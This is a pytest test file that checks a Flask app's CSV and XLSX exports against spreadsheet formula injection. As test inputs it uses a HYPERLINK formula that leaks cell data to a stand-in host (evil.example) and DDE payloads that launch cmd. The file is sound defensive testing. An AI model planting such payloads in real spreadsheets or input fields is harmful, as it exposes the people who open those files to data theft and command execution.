"""Every CSV (and XLSX) export of text people typed is formula-safe: a cell that would run as a formula stays text."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from flask import Flask
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import literal, select

from assess import db
from assess.models import Answer, AuditEvent, User
from assess.reports.sector import Report, Table, to_csv, to_xlsx
from assess.services import sector
from assess.services.tokens import create_token
from assess.spreadsheets import csv_text, formula_safe
from tests.conftest import Places, csrf_token, signed_in_client

HOSTILE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_a_formula_gets_a_leading_apostrophe(start: str) -> None:
    assert formula_safe(f"{start}1+2") == f"'{start}1+2"
    assert _rows(csv_text([["x", f"{start}SUM(A1)"]])) == [["x", f"'{start}SUM(A1)"]]


@pytest.mark.parametrize("value", ["plain text", "a = b", "", "1-2", -3, 2.5, None, date(2026, 1, 2)])
def test_other_cells_are_left_alone(value: object) -> None:
    assert formula_safe(value) == value


def _set_name(app: Flask, email: str, name: str) -> None:
    with app.app_context():
        user = db.session().scalar(select(User).filter_by(email=email))
        assert user is not None
        user.name = name
        db.session().commit()


def test_the_completion_csv_is_formula_safe(fixture_app: Flask, places: Places) -> None:
    _set_name(fixture_app, "respondent@example.org", HOSTILE)
    lead = signed_in_client(fixture_app, "lead")
    rows = _rows(lead.get(f"/councils/{places.own.code}/rounds/{places.own.round_id}/completion.csv")
                 .get_data(as_text=True))
    assert ["'" + HOSTILE, "respondent@example.org", "member", "respondent", "Submitted", "Not started"] in rows


def test_the_personal_data_csv_is_formula_safe(fixture_app: Flask, places: Places) -> None:
    with fixture_app.app_context():
        answer = db.session().scalar(select(Answer).filter_by(question_id="delivery-model"))
        assert answer is not None
        answer.comment = "@SUM(1+1)*cmd|' /C calc'!A0"
        db.session().commit()
    rows = list(csv.DictReader(io.StringIO(signed_in_client(fixture_app, "respondent").get("/account/data.csv")
                                           .get_data(as_text=True))))
    assert [row["comment"] for row in rows] == ["", "'@SUM(1+1)*cmd|' /C calc'!A0"]


def test_the_audit_csv_is_formula_safe(fixture_app: Flask, places: Places) -> None:
    with fixture_app.app_context():
        db.session().add(AuditEvent(action="sign-in-failed", subject="+cmd@example.org", user_agent="\t=1+1",
                                    detail={"note": "x"}))
        db.session().commit()
    admin = signed_in_client(fixture_app, "admin")
    token = csrf_token(admin.get("/admin/audit").get_data(as_text=True))
    exported = admin.post("/admin/audit.csv", data={"csrf_token": token, "action": "sign-in-failed"})
    rows = list(csv.DictReader(io.StringIO(exported.get_data(as_text=True))))
    assert [(row["subject"], row["user_agent"]) for row in rows] == [("'+cmd@example.org", "'\t=1+1")]


def test_the_published_levels_csv_is_formula_safe(fixture_app: Flask, places: Places,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    # Council names come from a register file an admin uploads, which could hold anything.
    row = ("EVIL", "-2+3+cmd|' /C calc'!A0", "District", "London", 1, "2026-01-10", "q", None, 2, "Basic")
    monkeypatch.setattr(sector, "published_levels", lambda _session, _filters, _threshold: select(*map(literal, row)))
    with fixture_app.app_context():
        analyst = db.session().scalar(select(User).filter_by(email="analyst@example.org"))
        assert analyst is not None
        _token, secret = create_token(db.session(), analyst, "tests")
        db.session().commit()
    response = fixture_app.test_client().get("/api/v1/sector/published.csv",
                                             headers={"Authorization": f"Bearer {secret}"})
    rows = _rows(response.get_data(as_text=True))
    assert rows[1][:2] == ["EVIL", "'-2+3+cmd|' /C calc'!A0"]


def _report() -> Report:
    table = Table("levels", "=Title", ("Group", "=Level label", "Councils"), [("@Group", "+level", 3)])
    return Report("Sector", 5, {"region": "-region"}, date(2026, 1, 2), [table])


def test_the_sector_csv_and_xlsx_exports_are_formula_safe() -> None:
    rows = _rows(to_csv(_report()))
    assert ["read-me", "filter", "region", "'-region"] in rows
    assert ["levels", "'@Group", "'=Level label", "'+level"] in rows and ["levels", "'@Group", "Councils", "3"] in rows
    book = load_workbook(io.BytesIO(to_xlsx(_report())))
    sheet = book["levels"]
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
        ["'=Title", None, None], ["Group", "'=Level label", "Councils"], ["'@Group", "'+level", 3]]
    assert all(cell.data_type != "f" for sheet in book for row in sheet.iter_rows() for cell in row)


CELLS = st.one_of(st.none(), st.integers(-5, 5), st.floats(allow_nan=False, allow_infinity=False),
                  st.text(alphabet=st.sampled_from(list('=+-@\t\r\n,"\' ab1')), max_size=6))


@settings(max_examples=300)
@given(st.lists(st.lists(CELLS, max_size=5), max_size=6))
@example([["=1", 2]]).via("a formula in the very first cell")
@example([[1, "x,y"], ["@a"]]).via("a formula starting a later line")
@example([['"=a', "\r"]]).via("quoted cells")
def test_csv_text_is_the_cell_by_cell_formula_safe_text(rows: list[list[object]]) -> None:
    """The fast path (text written once, checked as a whole) gives exactly what making each cell safe gives."""
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows([formula_safe(value) for value in row] for row in rows)
    assert csv_text(rows) == buffer.getvalue()
    assert csv_text(iter(rows)) == buffer.getvalue()
